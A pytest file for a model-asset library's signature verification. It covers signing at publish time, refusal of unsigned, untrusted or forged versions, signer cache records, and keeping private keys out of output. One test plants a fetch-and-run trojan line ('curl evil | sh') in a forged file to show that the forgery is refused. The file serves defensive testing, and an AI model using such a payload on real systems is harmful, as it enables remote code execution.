"""Signed versions through the library, on every backend (conftest's ``store``): signing
at publish time and afterwards, ``AssetsManager(require_signature=True)`` refusing what no
trusted key vouches for with nothing installed, the cache's signer records, and private
keys that never leave their object.
"""

from __future__ import annotations

import dataclasses
import logging
import os
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from modelkit_assets import AssetsManager, AssetStore, SignatureError
from modelkit_assets.errors import ConfigurationError, IntegrityError
from modelkit_assets.integrity import hash_local
from modelkit_assets.manifest import AssetMeta
from modelkit_assets.remote import Remote
from modelkit_assets.settings import Settings
from modelkit_assets.signing import (
    ECDSA_P256,
    ED25519,
    SigningKey,
    generate_key,
    load_signing_key,
    load_trusted_keys,
    sign,
    statement,
)

Keys = dict[str, tuple[Path, Path]]
Verifying = Callable[..., AssetsManager]

PASSPHRASE = "hunter2-for-this-test"


@pytest.fixture
def keys(tmp_path: Path) -> Keys:
    """Two publishers' keys (one of each type) and a stranger's: (private, public) PEM paths."""
    folder = tmp_path / "keys"
    folder.mkdir()
    return {
        "ed25519": generate_key(folder / "publisher.pem"),
        "p256": generate_key(folder / "ci.pem", ECDSA_P256),
        "stranger": generate_key(folder / "stranger.pem"),
    }


@pytest.fixture
def assets_dir(tmp_path: Path) -> Path:
    return tmp_path / "assets"


@pytest.fixture
def verifying(store: AssetStore, keys: Keys, assets_dir: Path) -> Verifying:
    """A manager of ``store`` requiring signatures by the named keys (into ``assets_dir``)."""

    def make(*trusted: str, into: Path | None = None, of: AssetStore | None = None) -> AssetsManager:
        return AssetsManager(
            of or store,
            into or assets_dir,
            require_signature=True,
            trusted_keys=[keys[k][1] for k in trusted],
        )

    return make


# -- helpers -------------------------------------------------------------------------------
def _fingerprint(private: Path) -> str:
    return load_signing_key(private).fingerprint


def _pem_lines(path: Path) -> list[str]:
    """Every non-empty line of a PEM file (its armour and its base64 body)."""
    return [line.strip() for line in path.read_text().splitlines() if line.strip()]


def _body_lines(path: Path) -> list[str]:
    """The base64 body lines of a PEM file: the key material itself."""
    return [line for line in _pem_lines(path) if not line.startswith("-----")]


def _nothing_installed(assets_dir: Path, name: str, version: str) -> None:
    """No trace of ``name:version`` in the assets dir: no version, no marker, no signer
    record, and no staged file with content."""
    folder = assets_dir.joinpath(*name.split("/"))
    version_path = folder / version
    assert not version_path.exists() and not version_path.is_symlink(), version_path
    assert not (folder / f".{version}.SUCCESS").exists()
    assert not (assets_dir / ".cache" / "signers").joinpath(*name.split("/"), version).exists()
    staging = assets_dir / ".cache" / "staging"
    staged = [p for p in staging.rglob("*") if p.is_file() and p.stat().st_size] if staging.exists() else []
    assert staged == [], staged


def _signer_record(assets_dir: Path, name: str, version: str, fingerprint: str) -> Path:
    """Where the cache records that ``fingerprint`` verified the current install."""
    st = os.stat(assets_dir.joinpath(*name.split("/"), version))
    return (
        assets_dir.joinpath(".cache", "signers", *name.split("/"), version)
        / f"{fingerprint.removeprefix('sha256:')}@{st.st_ino}-{st.st_ctime_ns}"
    )


def _refusal(excinfo: pytest.ExceptionInfo[SignatureError], *fragments: str) -> str:
    """The refusal is one line naming the problem."""
    message = str(excinfo.value)
    assert "\n" not in message, message
    for fragment in fragments:
        assert fragment in message, message
    return message


def _same_tree(installed: Path, source: Path) -> None:
    expected = sorted(str(p.relative_to(source)) for p in source.rglob("*") if p.is_file())
    found = sorted(
        str(p.relative_to(installed)) for p in installed.rglob("*") if p.is_file() and p.name != ".SUCCESS"
    )
    assert found == expected
    for rel in expected:
        assert (installed / rel).read_bytes() == (source / rel).read_bytes(), rel


def _put(store: AssetStore, key: str, data: bytes) -> None:
    """Write an object as anyone with write access could (parent folders made on disk)."""
    store.remote.replace(key, data)
    store.fs.invalidate_cache()


def _objects(store: AssetStore) -> list[str]:
    """Every object under the store root."""
    store.fs.invalidate_cache()
    try:
        return sorted(store.fs.find(store.layout.root))
    except FileNotFoundError:
        return []


def _forge(store: AssetStore, name: str, version: str, path: str, content: bytes, tmp_path: Path) -> None:
    """What an attacker with write access to the bucket does: replace one file of a
    directory version and write a `.meta` that matches it (sizes, sha256, blocks)."""
    replacement = tmp_path / "forged.bin"
    replacement.write_bytes(content)
    meta = store.meta(name, version)
    files = dict(meta.files)
    files[path] = hash_local(replacement)
    forged = dataclasses.replace(meta, files=files, size=sum(e.size or 0 for e in files.values()))
    store.fs.pipe_file(store.layout.data(name, version, path), content)
    store.fs.pipe_file(store.layout.meta(name, version), forged.to_json())
    store.fs.invalidate_cache()
    assert store.meta(name, version).files[path].sha256 == files[path].sha256  # consistent forgery


# -- 1. publish signed, fetch under required signatures -------------------------------------
@pytest.mark.parametrize("key_type", ["ed25519", "p256"])
def test_signed_file_and_directory_assets_are_fetched_under_required_signatures(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_file: Path,
    sample_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    key_type: str,
) -> None:
    """Both key types sign at publish time, the signature object exists before the commit,
    and a consumer trusting the public key gets exactly the published bytes."""
    caplog.set_level(logging.DEBUG)
    private, _public = keys[key_type]
    key = store.signing_key(private)
    assert isinstance(key, SigningKey)
    assert key.algorithm == (ED25519 if key_type == "ed25519" else ECDSA_P256)

    # the signature is there when the .meta is committed: a version never exists unsigned
    signed_at_commit: list[bool] = []
    commit = store._commit

    def spy(meta: AssetMeta) -> None:
        name, version = meta.name, meta.version
        signed_at_commit.append(store.remote.exists(store.layout.signature(name, version, key.fingerprint)))
        assert not store.remote.exists(store.layout.meta(name, version))
        commit(meta)

    monkeypatch.setattr(store, "_commit", spy)
    assert store.new(sample_file, "models/clf", sign_key=private) == "0.0"  # a path
    assert store.new(sample_dir, "nlp/tok", sign_key=key) == "0.0"  # a loaded key
    assert signed_at_commit == [True, True]
    for name in ("models/clf", "nlp/tok"):
        signatures = store.signatures.all(name, "0.0")
        assert [(s.fingerprint, s.algorithm) for s in signatures] == [(key.fingerprint, key.algorithm)]
        assert signatures[0].public_pem == key.public_pem
        assert signatures[0].self_consistent(statement(store.meta(name, "0.0")))

    manager = verifying(key_type)
    info = manager.fetch_info("models/clf:0.0")
    assert info.from_cache is False
    assert info.path == assets_dir / "models" / "clf" / "0.0"
    assert info.path.read_bytes() == sample_file.read_bytes()
    assert _signer_record(assets_dir, "models/clf", "0.0", key.fingerprint).exists()
    assert manager.fetch_info("models/clf:0.0").from_cache is True

    folder = manager.fetch("nlp/tok")  # a partial spec, resolved in the store
    assert folder == assets_dir / "nlp" / "tok" / "0.0"
    _same_tree(folder, sample_dir)
    assert _signer_record(assets_dir, "nlp/tok", "0.0", key.fingerprint).exists()
    merges = manager.fetch("nlp/tok:0.0[sub/merges.txt]")
    assert merges.read_bytes() == (sample_dir / "sub" / "merges.txt").read_bytes()

    # what was written and logged carries the public key only
    secret = _body_lines(private)
    stored = store.fs.cat_file(store.layout.signature("nlp/tok", "0.0", key.fingerprint)).decode()
    kept = "".join(p.read_text() for p in (assets_dir / ".cache" / "signers").rglob("*.sig"))
    assert kept  # the cache keeps a copy of the verifying signature
    for text in (stored, kept, caplog.text):
        assert not any(line in text for line in secret)


# -- 2./3. unsigned and untrusted versions ---------------------------------------------------
def test_an_unsigned_version_is_refused_and_nothing_is_installed(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_file: Path
) -> None:
    store.new(sample_file, "m")
    manager = verifying("ed25519", "p256")
    with pytest.raises(SignatureError) as excinfo:
        manager.fetch("m:0.0")
    _refusal(excinfo, "m:0.0 is not signed", "nothing was installed")
    _nothing_installed(assets_dir, "m", "0.0")

    # the latest version unsigned: a partial spec is refused, not served an older signed one
    store.update(sample_file, "m", sign_key=keys["ed25519"][0])
    store.update(sample_file, "m")
    with pytest.raises(SignatureError) as excinfo:
        manager.fetch_info("m")
    _refusal(excinfo, "m:0.2 is not signed")
    _nothing_installed(assets_dir, "m", "0.2")
    assert manager.fetch("m:0.1").read_bytes() == sample_file.read_bytes()


def test_a_version_signed_by_an_untrusted_key_is_refused(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_dir: Path
) -> None:
    stranger = store.signing_key(keys["stranger"][0])
    assert stranger is not None
    store.new(sample_dir, "m", sign_key=stranger)
    with pytest.raises(SignatureError) as excinfo:
        verifying("ed25519").fetch("m:0.0")
    _refusal(excinfo, "not in MODELKIT_ASSETS_TRUSTED_KEYS", stranger.fingerprint[:19])
    _nothing_installed(assets_dir, "m", "0.0")
    # without the requirement it is fetched: signing changes nothing for other consumers
    _same_tree(AssetsManager(store, assets_dir).fetch("m:0.0"), sample_dir)


def test_the_public_key_inside_a_signature_object_is_never_trusted(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_file: Path
) -> None:
    """An object at the trusted key's path that claims to be by that key (its fingerprint,
    its public PEM) but was made with another key does not verify: trust comes from the
    consumer's key files only."""
    store.new(sample_file, "m")
    trusted = load_signing_key(keys["ed25519"][0])
    stranger = load_signing_key(keys["stranger"][0])
    made = sign(store.meta("m", "0.0"), stranger)
    target = store.layout.signature("m", "0.0", trusted.fingerprint)
    # the trusted key's name and public key, or its name and the key that did sign
    for public_pem in (trusted.public_pem, stranger.public_pem):
        _put(
            store,
            target,
            dataclasses.replace(made, fingerprint=trusted.fingerprint, public_pem=public_pem).to_json(),
        )
        with pytest.raises(SignatureError) as excinfo:
            verifying("ed25519").fetch("m:0.0")
        _refusal(excinfo, "does not match")
        _nothing_installed(assets_dir, "m", "0.0")


# -- 4. the attack signing closes: a consistent rewrite of data and .meta --------------------
def test_a_consistent_rewrite_of_a_file_and_its_meta_is_refused(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_dir: Path,
    tmp_path: Path,
) -> None:
    store.new(sample_dir, "m", sign_key=keys["ed25519"][0])
    trojan = b"import os; os.system('curl evil | sh')\n"
    _forge(store, "m", "0.0", "vocab.txt", trojan, tmp_path)

    manager = verifying("ed25519")
    for attempt in (lambda: manager.fetch("m:0.0"), lambda: manager.fetch_info("m:0.0[vocab.txt]")):
        with pytest.raises(SignatureError) as excinfo:
            attempt()
        _refusal(excinfo, "does not match the version's manifest", "nothing was installed")
        _nothing_installed(assets_dir, "m", "0.0")

    # hashes alone accept the forgery: this is what the signature prevents
    plain = AssetsManager(store, tmp_path / "plain")
    assert plain.fetch("m:0.0[vocab.txt]").read_bytes() == trojan
    # and that unverified install is never served under the requirement
    with pytest.raises(SignatureError):
        verifying("ed25519", into=tmp_path / "plain").fetch("m:0.0[vocab.txt]")


def test_a_signature_copied_to_another_version_or_asset_does_not_vouch_for_it(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_file: Path
) -> None:
    """The statement names the asset and the version: identical bytes published as another
    version (or asset) are not covered by a copied signature."""
    fingerprint = _fingerprint(keys["ed25519"][0])
    store.new(sample_file, "m", sign_key=keys["ed25519"][0])
    store.update(sample_file, "m")
    store.new(sample_file, "n")
    original = store.fs.cat_file(store.layout.signature("m", "0.0", fingerprint))
    _put(store, store.layout.signature("m", "0.1", fingerprint), original)
    _put(store, store.layout.signature("n", "0.0", fingerprint), original)
    manager = verifying("ed25519")
    for name, version in (("m", "0.1"), ("n", "0.0")):
        with pytest.raises(SignatureError) as excinfo:
            manager.fetch(f"{name}:{version}")
        _refusal(excinfo, "does not match")
        _nothing_installed(assets_dir, name, version)
    assert manager.fetch("m:0.0").read_bytes() == sample_file.read_bytes()


def test_a_signed_manifest_still_checks_the_bytes(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_dir: Path
) -> None:
    """The signature covers the manifest and the manifest the bytes: a data object
    rewritten without its `.meta` passes the signature check and fails the download's."""
    store.new(sample_dir, "m", sign_key=keys["ed25519"][0])
    store.fs.pipe_file(store.layout.data("m", "0.0", "vocab.txt"), b"x\ny\nz\n")  # same size
    store.fs.invalidate_cache()
    with pytest.raises(IntegrityError):
        verifying("ed25519").fetch("m:0.0")
    _nothing_installed(assets_dir, "m", "0.0")


# -- 5. installs made without verification ---------------------------------------------------
def test_an_unverified_install_is_served_once_signed_if_it_holds_the_signed_files(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_dir: Path
) -> None:
    store.new(sample_dir, "m")
    path = AssetsManager(store, assets_dir).fetch("m:0.0")  # no signature checked
    manager = verifying("ed25519")
    with pytest.raises(SignatureError) as excinfo:
        manager.fetch("m:0.0")
    _refusal(excinfo, "not signed")
    with pytest.raises(SignatureError):
        manager.fetch("m:0.0[vocab.txt]")
    _same_tree(path, sample_dir)  # the plain consumer's install is left alone
    assert not (assets_dir / ".cache" / "signers" / "m" / "0.0").exists()

    key = store.signing_key(keys["ed25519"][0])
    assert key is not None
    assert store.signatures.add(store.meta("m", "0.0"), key) is True
    info = manager.fetch_info("m:0.0")
    assert info.from_cache is True and info.path == path
    _same_tree(path, sample_dir)
    assert _signer_record(assets_dir, "m", "0.0", key.fingerprint).exists()
    assert manager.fetch("m:0.0[sub/merges.txt]") == path / "sub" / "merges.txt"


@pytest.mark.parametrize("asset", ["file", "directory"])
def test_an_unverified_install_that_differs_from_the_signed_files_is_fetched_again(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_file: Path,
    sample_dir: Path,
    asset: str,
) -> None:
    """Modified in the assets dir before it was ever verified: the required fetch must not
    return those bytes, it downloads the signed ones."""
    source = sample_file if asset == "file" else sample_dir
    store.new(source, "m")
    path = AssetsManager(store, assets_dir).fetch("m:0.0")
    if asset == "file":
        os.chmod(path, 0o644)
        path.write_bytes(b"changed in the assets dir")
    else:
        os.chmod(path, 0o755)
        (path / "extra.py").write_bytes(b"print('not in the manifest')")  # every file counts
    key = store.signing_key(keys["ed25519"][0])
    assert key is not None
    assert store.signatures.add(store.meta("m", "0.0"), key) is True

    info = verifying("ed25519").fetch_info("m:0.0")
    assert info.from_cache is False and info.path == path
    if asset == "file":
        assert path.read_bytes() == sample_file.read_bytes()
    else:
        _same_tree(path, sample_dir)
    assert _signer_record(assets_dir, "m", "0.0", key.fingerprint).exists()


def test_a_record_names_the_install_it_verified_not_the_version(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_dir: Path, tmp_path: Path
) -> None:
    """A verified install later replaced by a fetch that checked nothing (here a forged
    version, forced) is not covered by the older record."""
    store.new(sample_dir, "m", sign_key=keys["ed25519"][0])
    manager = verifying("ed25519")
    manager.fetch("m:0.0")
    _forge(store, "m", "0.0", "vocab.txt", b"trojan", tmp_path)
    path = AssetsManager(store, assets_dir).fetch("m:0.0", force=True)
    assert (path / "vocab.txt").read_bytes() == b"trojan"
    for consumer, spec in ((manager, "m:0.0"), (verifying("ed25519"), "m:0.0[vocab.txt]")):
        with pytest.raises(SignatureError) as excinfo:
            consumer.fetch(spec)
        _refusal(excinfo, "does not match")


def test_a_verified_install_replaced_behind_the_tools_back_is_checked_again(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_file: Path
) -> None:
    """modelkit (or anything else) renames another file over a verified version without
    touching the signer records: the record names the old install, so the new file is
    re-hashed against the signed manifest and, differing, downloaded again."""
    store.new(sample_file, "m", sign_key=keys["ed25519"][0])
    manager = verifying("ed25519")
    path = manager.fetch("m:0.0")
    records = sorted((assets_dir / ".cache" / "signers" / "m" / "0.0").iterdir())
    swapped = path.with_name("swapped")
    swapped.write_bytes(b"written by another tool")
    os.replace(swapped, path)
    assert sorted((assets_dir / ".cache" / "signers" / "m" / "0.0").iterdir()) == records
    info = verifying("ed25519").fetch_info("m:0.0")
    assert info.from_cache is False and info.path == path
    assert path.read_bytes() == sample_file.read_bytes()


# -- 6. cache hits cost no store request; records are per key ---------------------------------
@pytest.fixture
def no_store_requests(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[AssetStore], None]]:
    """Make every store request fail loudly: opening a filesystem, any request, reading a
    manifest, checking a signature."""

    def used(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the store was used")

    with monkeypatch.context() as patch:

        def forbid(store: AssetStore) -> None:
            patch.setattr(Remote, "fs", property(used))
            patch.setattr(Remote, "request", used)
            patch.setattr(store, "meta", used)
            patch.setattr(store, "resolve", used)
            patch.setattr(store.signatures, "verify", used)
            patch.setattr(store.signatures, "all", used)

        yield forbid


def test_a_verified_cache_hit_makes_no_store_request(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_dir: Path,
    no_store_requests: Callable[[AssetStore], None],
) -> None:
    store.new(sample_dir, "m", sign_key=keys["ed25519"][0])
    path = verifying("ed25519").fetch("m:0.0")
    fresh = AssetStore(store.url, store.storage_options)  # not opened yet
    manager = verifying("ed25519", "p256", of=fresh)  # any trusted key's record will do
    no_store_requests(fresh)
    assert manager.fetch("m:0.0") == path
    assert manager.fetch("m:0.0[sub/merges.txt]") == path / "sub" / "merges.txt"
    info = manager.fetch_info("m:0.0[vocab.txt]")
    assert info.from_cache is True and info.path == path / "vocab.txt"


def test_a_record_made_for_one_key_does_not_satisfy_another(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_dir: Path,
    no_store_requests: Callable[[AssetStore], None],
) -> None:
    store.new(sample_dir, "m", sign_key=keys["ed25519"][0])
    path = verifying("ed25519").fetch("m:0.0")
    only_p256 = verifying("p256")
    with pytest.raises(SignatureError) as excinfo:
        only_p256.fetch("m:0.0")  # the store is asked, and refuses
    _refusal(excinfo, "not in MODELKIT_ASSETS_TRUSTED_KEYS")
    _same_tree(path, sample_dir)  # the verified install stays for those who trust its signer

    p256 = store.signing_key(keys["p256"][0])
    assert p256 is not None
    assert store.signatures.add(store.meta("m", "0.0"), p256) is True
    assert only_p256.fetch_info("m:0.0").from_cache is True  # re-hashed, then recorded
    assert _signer_record(assets_dir, "m", "0.0", p256.fingerprint).exists()
    fresh = AssetStore(store.url, store.storage_options)
    later = verifying("p256", of=fresh)
    no_store_requests(fresh)
    assert later.fetch("m:0.0") == path


def test_without_its_record_a_cached_version_goes_to_the_store(
    store: AssetStore,
    keys: Keys,
    verifying: Verifying,
    assets_dir: Path,
    sample_file: Path,
    no_store_requests: Callable[[AssetStore], None],
) -> None:
    """The counterpart of the no-request hit: an install no trusted key verified is never
    served from the cache alone."""
    store.new(sample_file, "m", sign_key=keys["ed25519"][0])
    AssetsManager(store, assets_dir).fetch("m:0.0")  # installed, not verified
    fresh = AssetStore(store.url, store.storage_options)
    manager = verifying("ed25519", of=fresh)
    no_store_requests(fresh)
    with pytest.raises(Exception) as excinfo:  # whatever the failed request becomes
        manager.fetch("m:0.0")
    assert "the store was used" in "".join(traceback.format_exception(excinfo.value))


# -- 7./8. configuration errors; private keys never leak --------------------------------------
def _encrypted_key(path: Path, passphrase: str) -> Path:
    key = ed25519.Ed25519PrivateKey.generate()
    path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(passphrase.encode()),
        )
    )
    return path


def _other_key(path: Path, kind: str) -> Path:
    key = rsa.generate_private_key(65537, 2048) if kind == "rsa" else ec.generate_private_key(ec.SECP384R1())
    path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return path


def test_required_signatures_need_readable_public_keys(tmp_path: Path, keys: Keys) -> None:
    store = tmp_path / "store"
    private, public = keys["ed25519"]
    with pytest.raises(ConfigurationError, match="no key is trusted"):
        AssetsManager(store, tmp_path / "a", require_signature=True)
    with pytest.raises(ConfigurationError, match="no key is trusted"):
        AssetsManager(store, tmp_path / "a", require_signature=True, trusted_keys=[])
    with pytest.raises(ConfigurationError, match="no key is trusted"):
        AssetsManager(settings=Settings.from_env({"MODELKIT_ASSETS_REQUIRE_SIGNATURE": "1"}))

    with pytest.raises(ConfigurationError, match="holds a private key") as excinfo:
        AssetsManager(store, tmp_path / "a", require_signature=True, trusted_keys=[public, private])
    assert str(private) in str(excinfo.value)
    assert not any(line in str(excinfo.value) for line in _pem_lines(private))

    missing = tmp_path / "nowhere.pub.pem"
    with pytest.raises(ConfigurationError, match="cannot be read") as excinfo:
        AssetsManager(store, tmp_path / "a", require_signature=True, trusted_keys=[missing])
    assert str(missing) in str(excinfo.value)

    garbage = tmp_path / "garbage.pem"
    garbage.write_text("ZZZ-not-a-key-QQQ\n")
    with pytest.raises(ConfigurationError, match="holds no PEM public key") as excinfo:
        AssetsManager(store, tmp_path / "a", require_signature=True, trusted_keys=[garbage])
    assert "ZZZ-not-a-key-QQQ" not in str(excinfo.value)

    # what does work: a file with several public keys, or the environment's settings
    bundle = tmp_path / "team.pub.pem"
    bundle.write_text(keys["stranger"][1].read_text() + public.read_text())
    manager = AssetsManager(store, tmp_path / "a", require_signature=True, trusted_keys=[bundle])
    assert {k.fingerprint for k in manager.trusted_keys} == {
        _fingerprint(keys["stranger"][0]),
        _fingerprint(private),
    }
    settings = Settings.from_env(
        {
            "MODELKIT_ASSETS_REQUIRE_SIGNATURE": "1",
            "MODELKIT_ASSETS_TRUSTED_KEYS": os.pathsep.join(str(keys[k][1]) for k in ("ed25519", "p256")),
        }
    )
    manager = AssetsManager(store, tmp_path / "a", settings=settings)
    assert manager.require_signature is True
    assert [k.fingerprint for k in manager.trusted_keys] == [
        _fingerprint(private),
        _fingerprint(keys["p256"][0]),
    ]


def test_unusable_signing_keys_are_refused_without_showing_them(tmp_path: Path, keys: Keys) -> None:
    private, public = keys["ed25519"]
    garbage = tmp_path / "garbage.pem"
    garbage.write_text("ZZZ-not-a-key-QQQ\nsecond line of junk\n")
    truncated = tmp_path / "truncated.pem"
    lines = private.read_text().splitlines()
    truncated.write_text("\n".join([lines[0], lines[1][:20], lines[-1]]) + "\n")
    encrypted = _encrypted_key(tmp_path / "encrypted.pem", PASSPHRASE)
    cases: list[tuple[Path, str | None, str]] = [
        (public, None, "is a public key"),
        (garbage, None, "is not a PEM private key"),
        (truncated, None, "is not a PEM private key"),
        (encrypted, None, "is encrypted"),
        (encrypted, "wrong-" + PASSPHRASE, "cannot be decrypted"),
        (private, PASSPHRASE, "is not encrypted"),
        (_other_key(tmp_path / "rsa.pem", "rsa"), None, "Ed25519 or EC P-256"),
        (_other_key(tmp_path / "p384.pem", "p384"), None, "Ed25519 or EC P-256"),
        (tmp_path / "missing.pem", None, "cannot be read"),
    ]
    for path, passphrase, fragment in cases:
        with pytest.raises(ConfigurationError) as excinfo:
            load_signing_key(path, passphrase)
        message = str(excinfo.value)
        assert fragment in message and str(path) in message and "\n" not in message, message
        shown = "".join(traceback.format_exception(excinfo.value))  # chained causes too
        content = _pem_lines(path) if path.exists() else []
        assert not any(line in shown for line in content), (path, shown)
        assert PASSPHRASE not in shown

    # the right passphrase opens it
    opened = load_signing_key(encrypted, PASSPHRASE)
    assert opened.algorithm == ED25519
    assert opened.fingerprint == load_trusted_keys([_public_of(encrypted, tmp_path)])[0].fingerprint


def _public_of(private: Path, folder: Path) -> Path:
    key = serialization.load_pem_private_key(private.read_bytes(), PASSPHRASE.encode())
    path = folder / (private.stem + ".pub.pem")
    path.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return path


def test_private_keys_and_passphrases_never_show(
    store: AssetStore, keys: Keys, tmp_path: Path, sample_file: Path
) -> None:
    for key_type in ("ed25519", "p256"):
        private, _ = keys[key_type]
        key = store.signing_key(private)
        assert key is not None
        for shown in (repr(key), str(key), f"{key}", repr([key])):
            assert key.fingerprint in shown
            assert not any(line in shown for line in _body_lines(private)), shown

    encrypted = _encrypted_key(tmp_path / "encrypted.pem", PASSPHRASE)
    settings = Settings.from_env(
        {
            "MODELKIT_ASSETS_SIGNING_KEY": str(encrypted),
            "MODELKIT_ASSETS_SIGNING_KEY_PASSPHRASE": PASSPHRASE,
        }
    )
    assert settings.signing_key_passphrase == PASSPHRASE and settings.signing_key == encrypted
    configured = AssetStore(store.url, store.storage_options, settings=settings)
    key = configured.signing_key()  # the configured, encrypted key, opened with its passphrase
    assert key is not None
    for shown in (repr(settings), str(settings), repr(configured), repr(key)):
        assert PASSPHRASE not in shown, shown
        assert not any(line in shown for line in _body_lines(encrypted)), shown

    # the configured key signs publishes made without sign_key
    assert configured.new(sample_file, "m") == "0.0"
    assert [s.fingerprint for s in store.signatures.all("m", "0.0")] == [key.fingerprint]
    stored = store.fs.cat_file(store.layout.signature("m", "0.0", key.fingerprint)).decode()
    assert PASSPHRASE not in stored
    assert not any(line in stored for line in _body_lines(encrypted))


def test_an_unusable_signing_key_publishes_nothing(store: AssetStore, keys: Keys, sample_file: Path) -> None:
    """The key is loaded before anything is written: no half-made, unsigned version."""
    _, public = keys["ed25519"]
    with pytest.raises(ConfigurationError, match="is a public key"):
        store.new(sample_file, "m", sign_key=public)
    assert _objects(store) == []  # not even a claim
    assert not store.exists("m")
    store.new(sample_file, "m")
    before = _objects(store)
    with pytest.raises(ConfigurationError, match="is a public key"):
        store.update(sample_file, "m", sign_key=public)
    assert _objects(store) == before
    assert store.versions("m") == ["0.0"]


# -- 9./10. signatures are invisible to listings; several keys sign one version ----------------
def test_signatures_are_invisible_to_listings(
    store: AssetStore, keys: Keys, sample_file: Path, sample_dir: Path
) -> None:
    store.new(sample_file, "a", sign_key=keys["ed25519"][0])
    store.update(sample_file, "a")
    store.new(sample_dir, "a/b", sign_key=keys["p256"][0])
    expected = [("a", ["0.1", "0.0"]), ("a/b", ["0.0"])]
    assert list(store.list()) == expected

    def snapshot() -> tuple[object, ...]:
        store.fs.invalidate_cache()
        return (
            list(store.list()),
            list(store.list("a")),
            store.versions("a"),
            store.versions("a/b"),
            store.read_index("a"),
            store.read_index("a/b"),
            store.fs.cat_file(store.layout.versions_index("a")),
            store.fs.cat_file(store.layout.versions_index("a/b")),
        )

    before = snapshot()
    assert before[0] == expected and before[4] == ["0.1", "0.0"]
    for name, version, key in (("a", "0.1", "ed25519"), ("a", "0.1", "p256"), ("a/b", "0.0", "stranger")):
        signing_key = store.signing_key(keys[key][0])
        assert signing_key is not None
        assert store.signatures.add(store.meta(name, version), signing_key) is True
    assert store.signatures.signed_versions("a") == {"0.0": 1, "0.1": 2}
    assert snapshot() == before


def test_a_second_key_signs_an_existing_version(
    store: AssetStore, keys: Keys, verifying: Verifying, assets_dir: Path, sample_dir: Path
) -> None:
    """Key rotation: a second signature is added beside the first, a consumer trusting
    only the new key accepts the version, and signing again writes nothing."""
    first = store.signing_key(keys["ed25519"][0])
    second = store.signing_key(keys["p256"][0])
    assert first is not None and second is not None
    store.new(sample_dir, "m", sign_key=first)
    meta = store.meta("m", "0.0")
    assert store.signatures.add(meta, second) is True
    assert sorted(s.fingerprint for s in store.signatures.all("m", "0.0")) == sorted(
        [first.fingerprint, second.fingerprint]
    )

    key = store.layout.signature("m", "0.0", second.fingerprint)
    written = store.fs.cat_file(key)
    assert store.signatures.add(meta, second) is False
    assert store.signatures.add(store.meta("m", "0.0"), first) is False
    store.fs.invalidate_cache()
    assert store.fs.cat_file(key) == written  # ECDSA signatures differ each time: not rewritten

    path = verifying("p256").fetch("m:0.0")
    _same_tree(path, sample_dir)
    assert _signer_record(assets_dir, "m", "0.0", second.fingerprint).exists()

    # a signature by the same key over another manifest is never overwritten
    files = dict(meta.files)
    files["vocab.txt"] = dataclasses.replace(files["vocab.txt"], sha256="0" * 64)
    with pytest.raises(SignatureError, match="does not match its manifest"):
        store.signatures.add(dataclasses.replace(meta, files=files), second)
    store.fs.invalidate_cache()
    assert store.fs.cat_file(key) == written


# -- found while writing these tests, and fixed --------------------------------------------------
def test_add_does_not_take_another_keys_signature_for_its_own(
    store: AssetStore, keys: Keys, verifying: Verifying, sample_file: Path
) -> None:
    """``add`` returns False only if *that key* already signed this manifest: an object at
    its path made by another key (self-consistent, but not by it) is no such signature."""
    store.new(sample_file, "m")
    meta = store.meta("m", "0.0")
    key = store.signing_key(keys["ed25519"][0])
    assert key is not None
    other = sign(meta, load_signing_key(keys["stranger"][0]))
    _put(store, store.layout.signature("m", "0.0", key.fingerprint), other.to_json())
    added = store.signatures.add(meta, key)
    assert added is True, "add said this key had already signed m:0.0, but no signature by it exists"
    assert verifying("ed25519").fetch("m:0.0").read_bytes() == sample_file.read_bytes()


def test_a_malformed_object_does_not_hide_a_valid_trusted_signature(
    store: AssetStore, keys: Keys, verifying: Verifying, sample_file: Path
) -> None:
    """A version is refused only when no trusted key's signature matches its manifest."""
    store.new(sample_file, "m", sign_key=keys["ed25519"][0])
    p256 = load_signing_key(keys["p256"][0])
    _put(store, store.layout.signature("m", "0.0", p256.fingerprint), b"not a signature object")
    assert verifying("ed25519", "p256").fetch("m:0.0").read_bytes() == sample_file.read_bytes()
